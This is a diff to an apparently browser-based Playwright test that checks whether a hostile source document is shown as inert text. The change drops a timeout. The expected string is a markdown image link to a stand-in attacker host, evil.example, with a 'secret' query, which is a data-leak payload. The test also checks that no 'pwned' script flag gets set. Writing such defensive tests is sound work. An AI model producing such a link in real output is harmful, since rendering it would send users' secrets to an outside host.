@@ -53,5 +53,5 @@ def test_a_hostile_original_is_shown_as_text(visit: Open, hostile: str) -> None:
     page.get_by_role("button", name="Open the original of source 1", exact=True).click()
 
     text = page.get_by_role("dialog").locator(".text")
-    expect(text).to_contain_text("![leak](https://evil.example/leak.png?secret)", timeout=60_000)
+    expect(text).to_contain_text("![leak](https://evil.example/leak.png?secret)")
     assert page.evaluate("() => window.pwned") is None
